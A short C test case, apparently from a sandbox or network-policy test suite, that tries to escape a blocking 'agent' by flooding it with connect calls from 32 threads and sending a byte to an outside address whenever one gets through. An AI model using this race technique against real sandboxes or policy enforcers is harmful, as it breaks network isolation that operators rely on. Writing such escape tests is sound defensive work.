// escape: floods the agent with refused connects from 32 threads, and counts on one that slips through
// group: the agent itself
// policy: network
// attempts: 20000
#include "escape.h"

static void* connect_for_ever(void* to) {
  for (const int fd = udp(AF_INET);;) {
    if (connect(fd, to, sizeof(struct sockaddr_in)) == 0) send(fd, "x", 1, 0);
  }
  return NULL;
}

static void attack(void) {
  static struct sockaddr_in to;
  to = stranger();
  for (int i = 0; i < 31; i++) thread(connect_for_ever, &to);
  const int fd = udp(AF_INET);
  while (more()) {
    if (connect(fd, ADDRESS(to)) == 0) send(fd, "x", 1, 0);
  }
}
